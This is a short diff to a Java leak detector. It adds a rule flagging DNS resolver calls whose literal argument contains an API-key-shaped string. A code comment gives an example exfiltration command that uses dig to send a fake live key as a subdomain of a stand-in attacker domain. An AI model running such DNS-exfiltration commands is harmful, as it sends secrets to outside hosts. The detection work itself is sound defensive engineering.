@@ -212,6 +212,12 @@ final class LeakPredicates {
         encodes = true;
       } else if (lookup == null && RESOLVERS.contains(program)) {
         for (Word word : step.args()) {
+          if (word.literal()
+              && word.text().length() < 256
+              && OutRules.KEY.matcher(word.text().replace('-', '_')).find()) {
+            // dig +short sk-live-51Habc123.evil.example.net: a key written into the name itself
+            return program + " " + word.text() + " (a key of a known form in the name looked up)";
+          }
           if (!word.literal() && COMPUTED_LABEL.matcher(word.text()).matches()) {
             lookup = program + " " + word.text();
             break;
